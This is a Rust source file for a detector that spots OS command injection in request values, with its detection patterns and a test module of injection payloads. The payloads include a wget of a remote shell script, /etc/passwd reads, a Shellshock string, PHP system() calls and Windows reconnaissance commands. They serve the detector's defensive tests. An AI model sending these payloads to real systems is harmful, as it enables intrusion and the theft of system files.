//! OS command injection: a shell metacharacter (`;`, `|`, `&`, a newline, `` ` ``, `$(`)
//! followed by a known command (CRS Unix and PowerShell lists), `${IFS}` tricks, Shellshock,
//! server-side includes and YAML gadgets that execute commands.
//!
//! Commands that are also English words (`more`, `time`, `set`) need a shell-looking argument,
//! so that "…; more than that" stays prose. A command at the very start of a value (or right
//! after `=`) needs one too, whatever the command: `cat /etc/passwd` counts, "echo in the
//! mirror" does not.

use std::collections::HashMap;

use regex::bytes::{Regex, RegexSet};

use super::decode;
use super::lexicon::{self, CommandKind};
use super::prefilter::byte;

/// Longest command word considered; longer tokens are not command names.
const COMMAND_BYTES_MAX: usize = 64;

/// The command-injection detector (word lists and patterns built once).
pub(crate) struct Cmdi {
    commands: HashMap<Box<[u8]>, CommandKind>,
    command_prefixes: Vec<&'static str>,
    patterns: RegexSet,
    exec_calls: Regex,
}

/// Where a command may start, and so how much evidence it needs.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Start {
    /// After a shell metacharacter. `grouped` when inside a plain `(…)` (not `$(`): user
    /// agents write `(X11; Linux; id)`, where `id` is a language, so a command there needs
    /// an argument.
    Separator { grouped: bool },
    /// After `{` (brace expansion `{cat,/etc/passwd}`): the word must end at a comma.
    Brace,
    /// At the start of the value or after `=`: plain text could start with a command word.
    Soft,
    /// Inside the string passed to a function that runs it (`system('…')`): any command.
    ExecCall,
}

/// Whether the literal parts of the special patterns are there, so that the patterns (which
/// cost more than a scan for a byte) run only on values that could match one.
fn may_hold_special_pattern(v: &[u8], kinds: u32) -> bool {
    let has = |needle: &[u8]| memchr::memmem::find(v, needle).is_some();
    let php = || v.windows(3).any(|w| w.eq_ignore_ascii_case(b"php"));
    kinds & byte::DOLLAR != 0
        || (kinds & byte::PAREN != 0 && kinds & byte::BRACE != 0)
        || (kinds & byte::LESS != 0 && (has(b"<!--") || has(b"<?")))
        || (kinds & byte::AMPERSAND != 0 && (has(b"&lt;") || has(b"&#")))
        || (kinds & byte::BANG != 0 && has(b"!!"))
        || (kinds & byte::PAREN != 0 && php())
}

impl Cmdi {
    pub(crate) fn new() -> Cmdi {
        let (commands, command_prefixes) = lexicon::commands();
        let patterns = [
            // `$IFS`, `${IFS}`, `$IFS$9`: whitespace without a space byte.
            r"\$\{?ifs\b",
            // Shellshock: a function definition in an environment variable.
            r"\(\s*\)\s*\{[^}]{0,32}\}\s*;",
            // Server-side includes that run commands or read files.
            r"<!--\s*#\s*(?:exec|include|echo|config|printenv|fsize|flastmod)\b",
            // Shell arithmetic used as a blind-injection canary: `$((3482*7301))`.
            r"\$\(\(\s*\d+\s*[-+*/%]\s*\d+\s*\)\)",
            // YAML deserialisation gadgets.
            r"!!(?:python|ruby|javax?|js)/",
            // PHP code: complex syntax, error-suppressed calls, open tags, probes.
            r"\{\$\{\s*\w+\s*\(|\$\{\s*@\s*\w+\s*\(",
            r"<\?php\b",
            r"\bphp(?:info|version)\s*\(\s*\)",
        ];
        let patterns = patterns.iter().map(|p| format!("(?i-u){p}"));
        // A string passed to a function that runs it: what follows the quote is a command line.
        let exec_calls = r#"(?i-u)\b(?:system|exec|shell_exec|passthru|popen|proc_open|eval|execsync|spawnsync)\s*\(\s*["'`]"#;
        Cmdi {
            commands,
            command_prefixes,
            patterns: RegexSet::new(patterns).expect("the command-injection patterns are valid"),
            exec_calls: Regex::new(exec_calls).expect("the exec-call pattern is valid"),
        }
    }

    /// A metacharacter, `$`, `<` (includes), `{`, `!`, `=`; or a value starting with a word and
    /// holding a blank, a `-` or a `/` (a command with an argument).
    pub(crate) fn candidate_by_bytes(kinds: u32, v: &[u8]) -> bool {
        let meta = byte::SEMICOLON
            | byte::PIPE
            | byte::AMPERSAND
            | byte::BACKTICK
            | byte::NEWLINE
            | byte::DOLLAR
            | byte::LESS
            | byte::BRACE
            | byte::BANG
            | byte::EQUALS
            | byte::BACKSLASH
            | byte::PAREN;
        kinds & meta != 0
            || (kinds & (byte::DASH | byte::SLASH | byte::SPACE) != 0
                && v.iter().find(|b| !b.is_ascii_whitespace()).is_some_and(u8::is_ascii_alphabetic))
    }

    /// Whether the decoded value holds a command line an injected shell would run.
    pub(crate) fn detect(&self, v: &[u8]) -> bool {
        let kinds = super::prefilter::byte_kinds(v);
        if may_hold_special_pattern(v, kinds) && self.special_pattern(v) {
            return true;
        }
        if self.command_at(v, 0, Start::Soft) {
            return true;
        }
        // `system('id')`: only with a parenthesis and a quote.
        if kinds & byte::PAREN != 0 && kinds & (byte::QUOTE | byte::BACKTICK) != 0 {
            let mut calls = self.exec_calls.find_iter(v);
            if calls.any(|m| self.command_at(v, m.end(), Start::ExecCall)) {
                return true;
            }
        }
        let mut depth = 0usize;
        let mut i = 0;
        while i < v.len() {
            let separator = Start::Separator { grouped: depth > 0 };
            let (start, next) = match v[i] {
                b';' | b'|' | b'&' | b'\n' | b'\r' => (Some(separator), i + 1),
                b'`' => (Some(Start::Separator { grouped: false }), i + 1),
                b'$' if v.get(i + 1) == Some(&b'(') => {
                    (Some(Start::Separator { grouped: false }), i + 2)
                }
                // A literal `\n` as scanners send it, hoping for an unescaping layer.
                b'\\' if matches!(v.get(i + 1), Some(b'n' | b'r')) => (Some(separator), i + 2),
                b'{' => (Some(Start::Brace), i + 1),
                b'=' => (Some(Start::Soft), i + 1),
                b'(' => {
                    depth += 1;
                    (None, i + 1)
                }
                b')' => {
                    depth = depth.saturating_sub(1);
                    (None, i + 1)
                }
                _ => (None, i + 1),
            };
            if let Some(start) = start {
                if self.command_at(v, next, start) {
                    return true;
                }
            }
            i = next;
        }
        false
    }

    fn special_pattern(&self, v: &[u8]) -> bool {
        if self.patterns.is_match(v) {
            return true;
        }
        if memchr::memmem::find(v, b"&lt;").is_none() && memchr::memmem::find(v, b"&#").is_none() {
            return false;
        }
        let unescaped = decode::html_unescape(v);
        unescaped.as_ref() != v && self.patterns.is_match(&unescaped)
    }

    /// Whether a known command starts at `v[at..]` (after blanks), with the evidence its
    /// start position requires.
    fn command_at(&self, v: &[u8], at: usize, start: Start) -> bool {
        let word_at = skip_blanks(v, at, matches!(start, Start::Separator { .. }));
        let Some(token) = Token::read(v, word_at) else { return false };
        let name = token.basename();
        let name = name.strip_suffix(b".exe").unwrap_or(name);
        let Some(kind) = self.kind_of(name) else { return false };
        let after = v.get(token.end).copied();
        // `id=5`, `"id": 5`, `find(x)`: a name, a key or a call, not a command.
        if matches!(after, Some(b'=' | b':' | b'(' | b'[' | b'.')) {
            return false;
        }
        let evidence = argument_evidence(v, token.end);
        let strong = evidence == Evidence::Strong || subcommand_evidence(name, v, token.end);
        match start {
            Start::Brace => after == Some(b','),
            Start::Soft => strong,
            Start::ExecCall => true,
            Start::Separator { grouped: true } => strong,
            Start::Separator { grouped: false } => match kind {
                CommandKind::Distinctive => true,
                CommandKind::Word => {
                    token.in_bin_directory()
                        || strong
                        // `;ls;`: chained with no blank on either side.
                        || (word_at == at && evidence == Evidence::Chained)
                }
            },
        }
    }

    fn kind_of(&self, name: &[u8]) -> Option<CommandKind> {
        if let Some(kind) = self.commands.get(name) {
            return Some(*kind);
        }
        let family = self
            .command_prefixes
            .iter()
            .any(|p| name.len() > p.len() && name[..p.len()].eq_ignore_ascii_case(p.as_bytes()));
        family.then_some(CommandKind::Distinctive)
    }
}

fn is_blank(b: u8) -> bool {
    matches!(b, b' ' | b'\t' | 0x0B | 0x0C)
}

/// Skips blanks, `$IFS`-style separators and, after a metacharacter, more metacharacters and
/// openers (`;|&`, `(`, `!`).
fn skip_blanks(v: &[u8], mut i: usize, after_separator: bool) -> usize {
    loop {
        let rest = &v[i.min(v.len())..];
        let Some(&b) = rest.first() else { return i };
        if is_blank(b) || (after_separator && matches!(b, b';' | b'|' | b'&' | b'(' | b'!')) {
            i += 1;
        } else if let Some(n) = ifs_len(rest) {
            i += n;
        } else {
            return i;
        }
    }
}

/// Length of a `$IFS`, `${IFS}` or `$IFS$9` at the start of `s`.
fn ifs_len(s: &[u8]) -> Option<usize> {
    let n = if s.len() >= 6 && s[..6].eq_ignore_ascii_case(b"${ifs}") {
        6
    } else if s.len() >= 4 && s[..4].eq_ignore_ascii_case(b"$ifs") {
        4
    } else {
        return None;
    };
    let digit = s.get(n) == Some(&b'$') && s.get(n + 1).is_some_and(u8::is_ascii_digit);
    Some(if digit { n + 2 } else { n })
}

/// Bytes that end a command word. `+` too: it stands for a space in the query strings that
/// carry most injected command lines.
fn ends_word(b: u8) -> bool {
    b.is_ascii_whitespace()
        || matches!(b, b';' | b'|' | b'&' | b'<' | b'>' | b'(' | b')' | b'{' | b'}' | b'`' | b',')
        || matches!(b, b'=' | b':' | b'[' | b']' | b'+' | 0)
}

/// A word read where a command could start: lower-case, with the quotes, backslashes and
/// `$@` that shells drop (`c'a't`, `c\at`, `ca$@t`) removed. Kept on the stack.
struct Token {
    bytes: [u8; COMMAND_BYTES_MAX],
    len: usize,
    /// Index in the value right after the word.
    end: usize,
}

impl Token {
    /// The word at `v[at..]`, `None` when there is none or it is longer than a command name.
    fn read(v: &[u8], at: usize) -> Option<Token> {
        let mut token = Token { bytes: [0; COMMAND_BYTES_MAX], len: 0, end: at };
        let mut i = at;
        while i < v.len() {
            let b = v[i];
            if b == b'$' {
                if v.get(i + 1) == Some(&b'@') {
                    i += 2;
                    continue;
                }
                break;
            }
            // A literal `\n` ends the word the way the newline it stands for would.
            if ends_word(b) || (b == b'\\' && matches!(v.get(i + 1), Some(b'n' | b'r'))) {
                break;
            }
            if !matches!(b, b'\'' | b'"' | b'\\') {
                let slot = token.bytes.get_mut(token.len)?;
                *slot = b.to_ascii_lowercase();
                token.len += 1;
            }
            i += 1;
        }
        token.end = i;
        (token.len > 0).then_some(token)
    }

    fn word(&self) -> &[u8] {
        &self.bytes[..self.len]
    }

    /// The word without its directory (`/usr/bin/id` → `id`).
    fn basename(&self) -> &[u8] {
        let word = self.word();
        match word.iter().rposition(|&b| b == b'/') {
            Some(i) => &word[i + 1..],
            None => word,
        }
    }

    /// Whether the word names its command through a binaries directory (`/usr/bin/more`).
    fn in_bin_directory(&self) -> bool {
        let word = self.word();
        let Some(slash) = word.iter().rposition(|&b| b == b'/') else { return false };
        let dir = &word[..slash];
        dir.ends_with(b"bin") || dir.ends_with(b"system32")
    }
}

/// What follows a command word.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Evidence {
    None,
    /// Another metacharacter right away (`;ls;`).
    Chained,
    /// An argument only a command line would have: a flag, a system path, a URL, a
    /// redirection, a variable.
    Strong,
}

/// Directories an argument of an injected command typically starts with.
const ARGUMENT_ROOTS: &[&[u8]] = &[
    b"/etc/",
    b"/bin/",
    b"/usr/",
    b"/tmp/",
    b"/dev/",
    b"/proc/",
    b"/var/",
    b"/home/",
    b"/root/",
    b"/opt/",
    b"/sbin/",
    b"/etc",
    b"~/",
    b"./",
    b"../",
    b"c:\\",
    b"c:/",
    b"%systemroot%",
];

fn argument_evidence(v: &[u8], end: usize) -> Evidence {
    if matches!(v.get(end), Some(b';' | b'|' | b'&' | b'`') | None) {
        return Evidence::Chained;
    }
    let rest = next_argument(v, end);
    let Some(&first) = rest.first() else { return Evidence::None };
    let starts = |p: &[u8]| rest.len() >= p.len() && rest[..p.len()].eq_ignore_ascii_case(p);
    let strong = (first == b'-' && rest.get(1).is_some_and(u8::is_ascii_alphanumeric))
        || matches!(first, b'$' | b'<' | b'>')
        || (first == b'/' && rest.get(1).is_some_and(u8::is_ascii_alphabetic))
        || ARGUMENT_ROOTS.iter().any(|p| starts(p))
        || starts(b"http://")
        || starts(b"https://")
        || starts(b"ftp://");
    if strong {
        Evidence::Strong
    } else {
        Evidence::None
    }
}

/// The argument after a command word: past blanks (and `+`, a space in query strings) and a
/// brace-expansion comma. Empty when the word is not followed by a blank (`ls/x`).
fn next_argument(v: &[u8], end: usize) -> &[u8] {
    let mut i = end;
    while v.get(i).is_some_and(|&b| is_blank(b) || b == b'+') {
        i += 1;
    }
    if i == end && !matches!(v.get(i), Some(b',' | b'<' | b'>')) {
        return &[];
    }
    if v.get(i) == Some(&b',') {
        i += 1;
    }
    v.get(i..).unwrap_or_default()
}

/// Arguments that make an everyday word a command: `sleep 5` alone (the blind-injection
/// timer; "sleep 8 hours" is prose), `net user …` (Windows account and share commands).
fn subcommand_evidence(name: &[u8], v: &[u8], end: usize) -> bool {
    let argument = next_argument(v, end);
    let word_len = argument.iter().take_while(|b| b.is_ascii_alphanumeric()).count();
    let (word, after) = argument.split_at(word_len);
    let ends_command = after.first().is_none_or(|&b| {
        matches!(b, b';' | b'|' | b'&' | b'`' | b'\'' | b'"' | b')' | b'\n' | b'\r')
    }) || after.trim_ascii().is_empty();
    match name {
        b"sleep" | b"timeout" => {
            !word.is_empty() && word.iter().all(u8::is_ascii_digit) && ends_command
        }
        b"net" => [&b"user"[..], b"view", b"localgroup", b"share", b"accounts", b"session"]
            .iter()
            .any(|s| word.eq_ignore_ascii_case(s)),
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cmdi(s: &str) -> bool {
        Cmdi::new().detect(s.as_bytes())
    }

    #[test]
    fn injected_commands() {
        for v in [
            ";id;",
            "|id",
            "a;id|",
            "\nid\n",
            "`id`",
            "$(whoami)",
            ";wget http://some_host/sh311.sh",
            "|getent hosts somehost.burpcollaborator.net.&",
            ";getent$IFS$9hosts$IFS$9somehost;echo$IFS$9$((3482*7301));",
            "| set /a 3482*7301",
            "; cat /et'c/pa'ss'wd",
            "cmd=127.0.0.1 && ls /etc",
            "ax--exec=`id`--remote=origin",
            "() { :; }; echo ; /bin/bash -c 'cat /etc/passwd'",
            "cat /etc/passwd",
            "ping -c 21 127.0.0.1",
            "{cat,/etc/passwd}",
            "<!--#exec cmd=\"ls\" -->",
            "&lt;!--#exec%20cmd=&quot;/bin/cat%20/etc/passwd&quot;--&gt;",
            "!!python/object/new:exec [import socket]",
            "& type C:\\boot.ini",
            "|/usr/bin/id|",
            "\\nid\\n",
            "; Get-Content C:\\secret.txt",
            "cmd /c dir",
            "; sleep 5",
            "| net view",
            "eval('whoami')",
            "exec('sleep 5');",
            "<?php system(\"cat /etc/passwd\");?>",
            ";phpinfo();//",
            "|getent+hosts+somehost.example",
            "(a; id -u)",
            "sleep 5",
            "net view",
            "system('cat config.php');",
            "$(id)",
        ] {
            assert!(cmdi(v), "{v}");
        }
    }

    #[test]
    fn prose_and_api_values() {
        for v in [
            "echo in the mirror",
            "curl and divergence",
            "bash away in the gym",
            "ls 300 lexus",
            "nc 8000 controller",
            "The Senora found herself a heroine; more than that, she became aware",
            "DEAR FINN,--I think it would do; copy should reach us second post",
            "The parameter 5 is&|.",
            "rock & roll",
            "Q&A",
            "AT&T",
            "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8",
            "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
            "Mozilla/5.0 (Windows NT 10.0; ARM; Touch) like Gecko",
            "{\"id\": 5, \"find\": \"x\"}",
            "page=2&sort=desc&id=7",
            "I setted the COOKIE value to : expandGeoJsonFeatures=true;",
            "url=/?usr=subject;-",
            "curl/7.68.0",
            "Opera/9.80 (MTK; Opera Mini/2.1199/34.1244; U; id) Presto/2.8.119 Version/11.10",
            "from=yandex.ru;yandsearch;web;;/web/item/title,pos,p1,source,web",
            "Coffee; time for a break",
            "see you at 5 (or later; sleep well)",
            "sleep 8 hours a night",
            "net use of funds",
            "python is great",
        ] {
            assert!(!cmdi(v), "{v}");
        }
    }
}
